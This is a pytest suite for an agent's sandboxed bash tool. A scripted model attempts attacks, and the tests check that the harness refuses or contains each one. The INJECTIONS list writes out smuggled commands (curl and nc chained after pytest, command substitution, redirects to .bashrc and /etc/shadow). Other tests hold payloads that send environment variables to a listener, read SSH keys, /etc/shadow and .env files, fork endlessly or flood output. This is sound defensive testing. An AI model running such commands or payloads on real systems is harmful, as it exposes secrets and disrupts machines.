"""Attacks on the bash tool, driven through the scripted model server.

The model does the bad thing (smuggles a command, writes a test that phones home, forks,
floods, loops, reaches outside the workspace); the harness must refuse or contain it. Each
test runs the real tool loop with the real bash tool and checks what the model was told
and what happened on the machine. ``ATTACKS`` at the bottom counts them.
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import tempfile
import tracemalloc
import uuid
from pathlib import Path
from typing import Any

import pytest

from agentls.agent.bash_tool import BashTool, make_bash_tool, sandbox_config
from agentls.agent.loop import run_loop
from agentls.agent.progress import NullProgress
from agentls.agent.tools import ToolRegistry, ToolResult, build_tools
from agentls.agent.workspace import Workspace
from agentls.llm.factory import make_backend
from agentls.llm.types import ToolCall
from agentls.sandbox import detect_isolation
from agentls.settings import Settings
from scripted_model import Reply, ScriptedModelServer

PYTEST = "python -m pytest -q -s -p no:cacheprovider --disable-plugin-autoload"
CALC = "def add(a, b):\n    return a + b\n"

# These attacks need the sandbox to run commands at all; without network namespaces every
# command is refused (test_sandbox.py checks that refusal). Fail loudly rather than skip.
assert detect_isolation().network, (
    "no network namespaces on this machine (unshare -rn fails): the attack tests cannot run; "
    "the sandbox refuses every command here"
)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    root.mkdir()
    (root / "calc.py").write_text(CALC)
    (root / "test_calc.py").write_text(
        "from calc import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n"
    )
    return root


def call(name: str, **arguments: Any) -> Reply:
    return Reply(tool_calls=[{"name": name, "arguments": arguments}])


def bash(command: str) -> Reply:
    return call("bash", command=command)


def write(path: str, content: str) -> Reply:
    return call("write", path=path, content=content)


class Session:
    """One scripted agent run with the bash tool; keeps every bash result."""

    def __init__(self, server: ScriptedModelServer, root: Path, **config: Any) -> None:
        self.server = server
        self.root = root
        self.settings = Settings(
            backend="ollama",
            base_url=server.url,
            model="gemma4:12b-it-qat",
            max_turns=60,
            command_timeout=config.pop("timeout", 10.0),
        )
        self.workspace = Workspace(root)
        self.bash: BashTool = make_bash_tool(
            self.workspace,
            self.settings,
            sandbox_config(self.settings, kill_grace=0.2, **config),
        )
        self.tools: ToolRegistry = build_tools(self.workspace, extra=[self.bash])
        self.results: list[tuple[str, ToolResult]] = []
        execute = self.tools.execute

        async def recording(tool_call: ToolCall) -> ToolResult:
            result = await execute(tool_call)
            if tool_call.name == "bash":
                self.results.append((str(tool_call.arguments.get("command")), result))
            return result

        self.tools.execute = recording  # type: ignore[method-assign]

    async def run(self, replies: list[Reply]) -> list[tuple[str, ToolResult]]:
        self.server.script([*replies, call("finish", summary="done")])
        backend = make_backend(self.settings)
        try:
            result = await run_loop(
                backend, self.settings, self.tools, "Task: run the tests.", NullProgress()
            )
        finally:
            await backend.aclose()
            await self.bash.aclose()
        assert result.finished
        return self.results


def processes_with(marker: str) -> list[int]:
    found: list[int] = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return [pid for pid in found if pid != os.getpid()]


async def gone(marker: str) -> bool:
    for _ in range(60):
        if not processes_with(marker):
            return True
        await asyncio.sleep(0.05)
    return False


# -- command injection: refused before anything runs ----------------------------------------

INJECTIONS: list[tuple[str, str]] = [
    ("pytest; curl http://127.0.0.1:{port}/x", "';' (command separator) is not allowed"),
    ("pytest && curl http://127.0.0.1:{port}/x", "'&' (background or '&&' chaining)"),
    ("pytest || curl http://127.0.0.1:{port}/x", "'|' (pipe or '||' chaining)"),
    ("pytest | nc 127.0.0.1 {port}", "'|' (pipe or '||' chaining)"),
    ("pytest & nc 127.0.0.1 {port}", "'&' (background or '&&' chaining)"),
    ("pytest $(curl http://127.0.0.1:{port}/x)", "'$(...)' (command substitution)"),
    ("pytest `curl http://127.0.0.1:{port}/x`", "backticks (command substitution)"),
    ('pytest -k "$(nc 127.0.0.1 {port})"', "'$(...)' (command substitution)"),
    ("pytest > /home/user/.bashrc", "'>' (output redirection)"),
    ("pytest < /etc/shadow", "'<' (input redirection)"),
    ("pytest\ncurl http://127.0.0.1:{port}/x", "a newline"),
    ("FOO=1 pytest", "environment assignments like 'FOO=1' are not allowed"),
    ("PYTHONSTARTUP=/tmp/x.py python -m pytest", "environment assignments"),
    ("pytest $HOME/.ssh", "'$' variable expansion"),
    ("curl http://127.0.0.1:{port}/x", "'curl' is not an allowed command"),
    ("bash -c 'pytest'", "'bash' is not an allowed command"),
    ("python -c 'import os; os.system(\"id\")'", "'python' is not an allowed command"),
    ("/usr/bin/env pytest", "'/usr/bin/env' is not an allowed command"),
    ("pytest --rootdir=/", "points outside the workspace"),
    ("pytest ../..", "points outside the workspace"),
    ("pytest /etc", "points outside the workspace"),
    ("python -m pytest -c/etc/passwd", "points outside the workspace"),
    ("pytest -o cache_dir=/tmp/evil", "points outside the workspace"),
    ("pytest ~/.ssh", "'~' (home directory expansion)"),
]


async def test_injected_commands_are_refused_and_nothing_runs(
    scripted_model: ScriptedModelServer, project: Path, listener: tuple[int, list[bytes]]
) -> None:
    port, got = listener
    session = Session(scripted_model, project)
    commands = [command.format(port=port) for command, _ in INJECTIONS]
    results = await session.run([bash(command) for command in commands])

    assert [command for command, _ in results] == commands
    for (command, result), (_, reason) in zip(results, INJECTIONS, strict=True):
        assert not result.ok, command
        assert result.output.startswith("Error: "), command
        assert reason in result.output, (command, result.output)
    # Nothing ran: no sandbox was even made, and nobody phoned home.
    assert session.bash.session.sandbox is None or session.bash.session.sandbox.path is None
    assert got == []


async def test_allowed_command_runs_and_reports_to_the_model(
    scripted_model: ScriptedModelServer, project: Path
) -> None:
    session = Session(scripted_model, project)
    results = await session.run(
        [
            call("edit", path="calc.py", old_text="a + b", new_text="a * b"),
            bash(f"{PYTEST} test_calc.py"),
        ]
    )
    ((_, result),) = results
    assert result.ok
    assert "exit code 1" in result.output and "assert 2 == 3" in result.output
    assert (project / "calc.py").read_text() == CALC


# -- attacks from inside an allowed command: contained ----------------------------------------


async def test_test_file_that_phones_home_gets_no_network(
    scripted_model: ScriptedModelServer, project: Path, listener: tuple[int, list[bytes]]
) -> None:
    port, got = listener
    steal = (
        "import os, socket\n\n\ndef test_steal():\n"
        "    try:\n"
        f"        s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
        "        s.sendall(repr(dict(os.environ)).encode())\n        print('SENT')\n"
        "    except OSError as exc:\n        print('BLOCKED', exc)\n"
        "    try:\n        socket.getaddrinfo('example.com', 80)\n        print('RESOLVED')\n"
        "    except OSError as exc:\n        print('NO DNS', exc)\n"
    )
    session = Session(scripted_model, project)
    results = await session.run([write("test_steal.py", steal), bash(f"{PYTEST} test_steal.py")])
    ((_, result),) = results
    assert "BLOCKED" in result.output and "SENT" not in result.output
    assert "NO DNS" in result.output
    await asyncio.sleep(0.3)
    assert got == []


async def test_npm_test_script_that_phones_home_gets_no_network(
    scripted_model: ScriptedModelServer, project: Path, listener: tuple[int, list[bytes]]
) -> None:
    port, got = listener
    script = (
        "node -e \"require('net').connect("
        f"{port}, '127.0.0.1').on('connect', () => console.log('SENT'))"
        ".on('error', e => console.log('BLOCKED', e.code))\""
    )
    package = json.dumps({"name": "p", "version": "1.0.0", "scripts": {"test": script}})
    session = Session(scripted_model, project)
    results = await session.run([write("package.json", package), bash("npm test")])
    ((_, result),) = results
    # (npm echoes the script, so look at what it printed, line by line)
    lines = result.output.splitlines()
    assert "BLOCKED ECONNREFUSED" in lines and "SENT" not in lines, result.output
    await asyncio.sleep(0.3)
    assert got == []


async def test_secrets_outside_the_workspace_are_out_of_reach(
    scripted_model: ScriptedModelServer,
    project: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("AGENTLS_DEPLOY_TOKEN", "tok-s3cr3t")
    secret = tmp_path / "id_rsa"
    secret.write_text("-----BEGIN KEY----- s3cr3t")
    home = Path.home()
    snoop = (
        "import os\n\n\ndef test_snoop():\n"
        "    print('ENV', dict(os.environ))\n"
        f"    for path in ({str(secret)!r}, {str(home / '.ssh')!r}, {str(home / '.bashrc')!r}):\n"
        "        try:\n            print('READ', path, open(path).read()[:40])\n"
        "        except OSError as exc:\n            print('NO', path, exc.strerror)\n"
        f"    for path in ({str(project / 'calc.py')!r}, {str(home / 'agentls-pwned')!r}):\n"
        "        try:\n            open(path, 'w').write('pwned')\n"
        "        except OSError as exc:\n            print('NO WRITE', path, exc.strerror)\n"
        f"    try:\n        os.kill({os.getpid()}, 15)\n"
        "        print('SIGNALLED')\n"
        "    except OSError as exc:\n        print('NO KILL', exc.strerror)\n"
    )
    session = Session(scripted_model, project)
    results = await session.run([write("test_snoop.py", snoop), bash(f"{PYTEST} test_snoop.py")])
    ((_, result),) = results
    assert "s3cr3t" not in result.output
    assert f"NO {secret} No such file or directory" in result.output
    assert f"NO {home / '.ssh'} No such file or directory" in result.output
    # Writes to the workspace path landed in the copy; the home is a throwaway tmpfs.
    assert (project / "calc.py").read_text() == CALC
    assert not (home / "agentls-pwned").exists()
    # The server's PID means nothing inside the command's own PID namespace.
    assert "NO KILL No such process" in result.output and "SIGNALLED" not in result.output


async def test_the_rest_of_the_disk_does_not_exist_for_a_test(
    scripted_model: ScriptedModelServer, project: Path
) -> None:
    """Another project (outside /tmp and home, which were always hidden), the system's
    passwd and shadow, the host's processes: nothing of them reaches the model."""
    other = Path(tempfile.mkdtemp(prefix="agentls-attack-other-", dir="/var/tmp"))
    try:
        (other / ".env").write_text("OTHER_TOKEN=other-s3cr3t\n")
        real_users = [
            line.split(":")[0]
            for line in Path("/etc/passwd").read_text().splitlines()
            if line and not line.startswith(("root:", "nobody:"))
        ]
        snoop = (
            "import os\n\n\ndef test_snoop():\n"
            f"    for path in ({str(other / '.env')!r}, '/etc/shadow', '/etc/passwd'):\n"
            "        try:\n            print('READ', path, open(path).read())\n"
            "        except OSError as exc:\n            print('NO', path, exc.strerror)\n"
            f"    print('LS', os.path.exists({str(other.parent)!r}), os.listdir('/var'))\n"
            "    print('PIDS', sorted(int(p) for p in os.listdir('/proc') if p.isdigit())[:5])\n"
        )
        session = Session(scripted_model, project)
        results = await session.run(
            [write("test_snoop.py", snoop), bash(f"{PYTEST} test_snoop.py")]
        )
    finally:
        shutil.rmtree(other, ignore_errors=True)
    ((_, result),) = results
    out = result.output
    assert "s3cr3t" not in out and f"NO {other / '.env'} No such file or directory" in out
    assert "NO /etc/shadow No such file or directory" in out
    for user in real_users:
        assert f"\n{user}:" not in out, user
    assert "LS True ['tmp']" in out  # /var holds only a private, empty /var/tmp
    assert "PIDS [1]\n" in out  # its own PID namespace: the host's processes are not there


async def test_fork_bomb_dies_with_the_timeout(
    scripted_model: ScriptedModelServer, project: Path
) -> None:
    # A fork chain: every process forks a child that forks on, and never exits. It grows
    # linearly rather than exponentially so that on this shared machine (where root is not
    # subject to RLIMIT_NPROC) it cannot exhaust the PID space of other sessions.
    marker = uuid.uuid4().hex
    bomb = (
        "import os, time\n\n\ndef test_bomb():\n"
        "    while True:\n"
        "        try:\n            pid = os.fork()\n"
        "        except OSError:\n            continue\n"
        "        if pid:\n            while True:\n                time.sleep(1)\n"
        "        time.sleep(0.005)\n"
    )
    name = f"test_bomb_{marker}.py"
    session = Session(scripted_model, project, timeout=2.0)
    peak = 0

    async def watch() -> None:
        nonlocal peak
        while True:
            peak = max(peak, len(processes_with(marker)))
            await asyncio.sleep(0.1)

    watcher = asyncio.create_task(watch())
    results = await session.run([write(name, bomb), bash(f"{PYTEST} {name}")])
    watcher.cancel()
    ((_, result),) = results
    assert "timed out after" in result.output
    assert peak > 20  # it really forked
    assert await gone(marker)


async def test_endless_loop_dies_with_the_timeout(
    scripted_model: ScriptedModelServer, project: Path
) -> None:
    marker = uuid.uuid4().hex
    name = f"test_loop_{marker}.py"
    session = Session(scripted_model, project, timeout=1.5)
    results = await session.run(
        [write(name, "def test_loop():\n    while True:\n        pass\n"), bash(f"{PYTEST} {name}")]
    )
    ((_, result),) = results
    assert "timed out after 1." in result.output
    assert await gone(marker)


async def test_gigabyte_of_output_is_cut_and_memory_stays_bounded(
    scripted_model: ScriptedModelServer, project: Path
) -> None:
    flood = (
        "import os\n\n\ndef test_flood():\n    chunk = b'z' * (1 << 20)\n"
        "    for _ in range(1024):\n        os.write(1, chunk)\n"
    )
    session = Session(scripted_model, project, timeout=30.0)
    tracemalloc.start()
    try:
        results = await session.run(
            [write("test_flood.py", flood), bash(f"{PYTEST} test_flood.py")]
        )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    ((_, result),) = results
    assert "stopped after" in result.output and "bytes of output" in result.output
    assert "bytes in total" in result.output
    assert len(result.output) < 12_000  # what goes to the model
    assert peak < 20 * 1024 * 1024  # the server never held the flood


# Tried / refused / got through: the 24 INJECTIONS are refused by the parser before anything
# runs; the attacks from inside allowed commands (network from a test, from an npm script,
# DNS, secrets in env and files outside, writes outside, signalling the server, other projects
# and /etc on the disk, fork chain, endless loop, a gigabyte of output) run and are contained.
# None got through.
